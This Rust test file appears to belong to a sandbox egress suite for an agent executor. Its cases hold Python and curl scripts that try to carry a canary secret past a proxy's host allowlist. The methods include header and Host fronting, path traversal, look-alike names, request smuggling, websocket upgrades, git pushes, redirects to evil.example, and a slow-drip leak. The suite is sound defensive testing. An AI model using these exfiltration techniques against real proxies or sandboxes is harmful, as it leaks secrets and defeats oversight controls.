//! Past the rules of hosts that are allowed: a rule is about ports, methods, paths and phases too.

use deckhand_executors::egress::Phase;

use crate::ground::{Inside, Road, Sign};

/// Past the rules of hosts that are allowed: a rule is about ports, methods, paths and phases too.
pub const ROWS: &[Inside] = &[
    Inside {
        id: "net-write-to-read-host",
        tries: "Upload to a host that may only be read, by every method that carries a body.",
        script: python!(
            r#"
for method in ["PUT", "POST", "PATCH", "DELETE", "OPTIONS", "MKCOL", "get", "GE\tT", "TRACE"]:
    quietly(lambda: proxy(f"{method} http://packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\ncontent-length: {len(canary)}\r\nConnection: close\r\n\r\n{canary}"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-method-override",
        tries: "Write to a host that may only be read, with a header that names another method.",
        script: python!(
            r#"
for header in ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"]:
    quietly(lambda: proxy(f"POST http://packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\n{header}: GET\r\ncontent-length: {len(canary)}\r\nConnection: close\r\n\r\n{canary}"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-rewriting-headers",
        tries: "Have an allowed host take a request for another one: by headers that name another method, path or host.",
        script: python!(
            r#"
for header in ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override", "X-Original-URL", "X-Rewrite-URL", "X-Forwarded-Host", "X-Host", "X-Original-Host", "Forwarded", "x-forwarded-prefix"]:
    quietly(lambda: proxy(f"GET http://packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\n{header}: /upload/{canary}\r\nConnection: close\r\n\r\n"))
    quietly(lambda: inside("inspected.example", f"GET /simple/a HTTP/1.1\r\nHost: inspected.example\r\n{header}: {canary}.evil.example\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-body-of-get",
        tries: "Send the secret as the body of a GET, to a host that may only be read.",
        script: python!(
            r#"
quietly(lambda: proxy(f"GET http://packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\ncontent-length: {len(canary)}\r\nConnection: close\r\n\r\n{canary}"))
quietly(lambda: proxy(f"GET http://packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\ntransfer-encoding: chunked\r\nConnection: close\r\n\r\n{len(canary):x}\r\n{canary}\r\n0\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-path-climbs",
        tries: "Leave the part of an allowed host that its rule names, by dots, encodings and empty steps.",
        script: python!(
            r#"
for path in ["/upload/", "/simple/../upload/", "/simple/%2e%2e/upload/", "/simple/%2E./upload/", "/simple/..;/upload/", "/simple/..%2fupload/", "/simple/..%5cupload/", "/simple/a/../../upload/", "/simple\\..\\upload/", "/SIMPLE/", "//upload/simple/", "/simple", "/simplex/", "/simple/%252e%252e/upload/", "/./upload/", "/simple/..%00/upload/"]:
    quietly(lambda: proxy(f"GET http://packages.example{path}{canary} HTTP/1.1\r\nHost: packages.example\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-odd-port-of-allowed-host",
        tries: "Reach an allowed host at ports that its rule does not name.",
        script: python!(
            r#"
for at in [22, 25, 443, 8080, 9418]:
    quietly(lambda: proxy(f"CONNECT packages.example:{at} HTTP/1.1\r\nHost: packages.example:{at}\r\n\r\n{canary}"))
    quietly(lambda: proxy(f"GET http://packages.example:{at}/simple/{canary} HTTP/1.1\r\nHost: packages.example:{at}\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-near-names",
        tries: "Use names that look like an allowed one: longer, shorter, with other letters or marks.",
        script: python!(
            r#"
for name in ["packages.example.evil.example", "xpackages.example", "evil.example?packages.example", "packages.example%2eevil.example", "packages\u0435.example", "packages.example..", ".packages.example", "packages.example\t", "packages_example", "cdn.example", "evilcdn.example", "a.cdn.example.evil.example"]:
    quietly(lambda: proxy(f"GET http://{name}/simple/{canary} HTTP/1.1\r\nHost: {name}\r\nConnection: close\r\n\r\n"))
    quietly(lambda: proxy(f"CONNECT {name}:443 HTTP/1.1\r\nHost: {name}:443\r\n\r\n{canary}"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-redirect",
        tries: "Let an allowed host lead on to one that is not, with a client that follows.",
        script: r#"curl -s -L -m 8 "http://packages.example/simple/to/evil.example/$CANARY"; echo "tried: curl ended with $?""#,
        sign: Sign::LeavesBut(&["packages.example:80"]),
        ..Inside::OUT
    },
    Inside {
        id: "net-host-fronting",
        tries: "Ask an allowed host for the pages of another one, by the Host header of a plain request.",
        script: python!(
            r#"
for forged in [canary + ".evil.example", "packages.example, " + canary, "packages.example@" + canary, "packages.example:80/" + canary, canary]:
    quietly(lambda: proxy(f"GET http://packages.example/simple/a HTTP/1.1\r\nHost: {forged}\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-two-hosts",
        tries: "Send two Host headers, the second for a host that is not allowed, and headers that stand in for it.",
        script: python!(
            r#"
for header in ["Host", "host", "Host ", " Host"]:
    quietly(lambda: proxy(f"GET http://packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\n{header}: {canary}.evil.example\r\nConnection: close\r\n\r\n"))
    quietly(lambda: proxy(f"GET http://packages.example/simple/a HTTP/1.1\r\n{header}: {canary}.evil.example\r\nHost: packages.example\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-sni-fronting",
        tries: "Open a tunnel to an allowed host and greet another one in it.",
        script: r#"curl -s -k -m 6 --connect-to "$CANARY.evil.example:443:tunnel.example:443" "https://$CANARY.evil.example/"
echo "tried: curl ended with $?""#,
        ..Inside::OUT
    },
    Inside {
        id: "net-tunnel-without-tls",
        tries: "Open a tunnel to an allowed host and speak plainly in it: HTTP, SSH, and a greeting without a name.",
        script: python!(
            r#"
def through(data):
    s = socket.create_connection(("127.0.0.1", 3128), 3)
    s.sendall(b"CONNECT tunnel.example:443 HTTP/1.1\r\nHost: tunnel.example:443\r\n\r\n")
    answer = s.recv(4096)
    s.sendall(data)
    try: answer += s.recv(4096)
    except OSError as error: answer += str(error).encode()
    s.close()
    return answer
import ssl
def hello(name):
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols([canary])
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = context.wrap_bio(incoming, outgoing, server_hostname=name)
    try: tls.do_handshake()
    except ssl.SSLWantReadError: pass
    return outgoing.read()
quietly(lambda: through(f"GET /{canary} HTTP/1.1\r\nHost: tunnel.example\r\n\r\n".encode()))
quietly(lambda: through(f"SSH-2.0-{canary}\r\n".encode()))
quietly(lambda: through(hello(None)))
quietly(lambda: through(hello("evil.example")))
quietly(lambda: through(b"\x16\x03\x01" + struct.pack(">H", len(canary)) + canary.encode()))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-request-smuggling",
        tries: "Hide a second request in the body of a first, by lengths that contradict each other.",
        script: python!(
            r#"
second = f"GET http://evil.example/{canary} HTTP/1.1\r\nHost: evil.example\r\n\r\n"
first = "GET http://packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\n"
for lengths in ["Content-Length: 5\r\nTransfer-Encoding: chunked\r\n", "Transfer-Encoding: chunked\r\nContent-Length: 400\r\n", "Content-Length: 0\r\nContent-Length: 400\r\n", "Transfer-Encoding: xchunked\r\n", "Transfer-Encoding: chunked, identity\r\n", "Transfer-Encoding:\tchunked\r\nTransfer-Encoding: x\r\n", "Content-Length: +0\r\n", "Content-Length: 0 \r\n"]:
    quietly(lambda: proxy(first + lengths + "\r\n0\r\n\r\n" + second))
quietly(lambda: proxy(first + "\r\n" + second))
quietly(lambda: proxy(first.replace("\r\n", "\n") + "\n" + second))
quietly(lambda: proxy(first + f"X: a\rY: b\r\nZ: a\x00b\r\n\r\n" + second))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-websocket",
        tries: "Turn an allowed request into a connection that carries anything, by an upgrade.",
        script: python!(
            r#"
for protocol in ["websocket", "h2c", "TLS/1.0", canary]:
    quietly(lambda: proxy(f"GET http://packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\nConnection: Upgrade\r\nUpgrade: {protocol}\r\nSec-WebSocket-Protocol: {canary}\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n{canary}"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-own-credential",
        tries: "Send a credential of the attacker's own to an allowed host, which opens the attacker's account there.",
        script: python!(
            r#"
for header in ["Authorization: Bearer", "Authorization: Basic", "Proxy-Authorization: Basic", "Cookie: a=", "X-Api-Key:", "Private-Token:", "X-Auth-Token:"]:
    quietly(lambda: proxy(f"GET http://packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\n{header} {canary}\r\nConnection: close\r\n\r\n"))
for name in ["api_key", "access_token", "KEY", "access%5Ftoken"]:
    quietly(lambda: proxy(f"GET http://packages.example/simple/a?x=1&{name}={canary} HTTP/1.1\r\nHost: packages.example\r\nConnection: close\r\n\r\n"))
quietly(lambda: proxy(f"GET http://user:{canary}@packages.example/simple/a HTTP/1.1\r\nHost: packages.example\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-git-push",
        tries: "Push through a git host that may be read.",
        script: python!(
            r#"
start = f"http://git.example/acme/web.git"
for path in [f"/info/refs?service=git-receive-pack&x={canary}", f"/info/refs?service=git-upload-pack&service=git-receive-pack&x={canary}", f"/info/refs?service=git%2dreceive-pack&x={canary}", f"/info/refs?x={canary}"]:
    quietly(lambda: proxy(f"GET {start}{path} HTTP/1.1\r\nHost: git.example\r\nConnection: close\r\n\r\n"))
for path in ["/git-receive-pack", "/git-upload-pack/../git-receive-pack", "/git%2dreceive-pack", "/git-receive-pack?/git-upload-pack", "/git-receive-pack/"]:
    quietly(lambda: proxy(f"POST {start}{path} HTTP/1.1\r\nHost: git.example\r\ncontent-type: application/x-git-receive-pack-request\r\ncontent-length: {len(canary)}\r\nConnection: close\r\n\r\n{canary}"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-git-other-repository",
        tries: "Read, and speak to, another repository of a git host of which one may be read.",
        script: python!(
            r#"
for path in [f"/evil/{canary}.git/info/refs?service=git-upload-pack", f"/acme/web.git/../../evil/{canary}.git/info/refs?service=git-upload-pack", f"/acme/web.git-{canary}/info/refs?service=git-upload-pack"]:
    quietly(lambda: proxy(f"GET http://git.example{path} HTTP/1.1\r\nHost: git.example\r\nConnection: close\r\n\r\n"))"#
        ),
        ..Inside::OUT
    },
    Inside {
        id: "net-host-of-setup-in-work",
        tries: "Reach, while the agent works, a host that is allowed in the setup alone.",
        script: r#"curl -s -m 6 "http://setup.example/$CANARY"; echo "tried: curl ended with $?""#,
        ..Inside::OUT
    },
    Inside {
        id: "net-allowed-host-in-proof",
        tries: "Reach, in the proof, a host that is allowed while the agent works.",
        script: r#"curl -s -m 6 "http://packages.example/simple/$CANARY"; echo "tried: curl ended with $?""#,
        road: Road::House(Phase::Proof),
        ..Inside::OUT
    },
    Inside {
        id: "net-name-leads-into-the-house",
        tries: "Use an allowed name that leads to a private address: the proxy's own machine.",
        script: r#"curl -s -m 6 -x http://127.0.0.1:3128 --noproxy '' "http://inside.localhost:$PORT/$CANARY"
curl -s -m 6 -x http://127.0.0.1:3128 --noproxy '' "http://localhost:$PORT/$CANARY"; echo "tried: curl ended with $?""#,
        road: Road::Direct(Phase::Work),
        ..Inside::OUT
    },
    Inside {
        id: "net-slow-drip",
        tries: "Carry a repository out in pieces, in the addresses of thousands of requests to an allowed host.",
        script: DRIP,
        ..Inside::OUT
    },
];

/// The secret comes after as many bytes as a small repository has; that the first bytes go through is what allowing a
/// host means, and `docs/SECURITY.md` says so.
const DRIP: &str = python!(
    r#"
piece, total, carried = "x" * 30_000, 24 * 1024 * 1024, 0
s, lines = None, None
refused = 0
while carried < total and refused < 20:
    try:
        if s is None:
            s = socket.create_connection(("127.0.0.1", 3128), 5)
            lines = s.makefile("rb")
        s.sendall(f"GET http://packages.example/simple/{piece} HTTP/1.1\r\nHost: packages.example\r\n\r\n".encode())
        status = lines.readline()
        length = 0
        while True:
            line = lines.readline().strip().lower()
            if line.startswith(b"content-length:"): length = int(line.split(b":")[1])
            if not line: break
        lines.read(length)
        if b" 200 " in status: carried += len(piece)
        else: refused += 1
        if not status: raise OSError("closed")
    except OSError as error:
        s, refused = None, refused + 1
seen.append(f"{carried} bytes passed before {status}")
quietly(lambda: proxy(f"GET http://packages.example/simple/{canary} HTTP/1.1\r\nHost: packages.example\r\nConnection: close\r\n\r\n"))"#
);
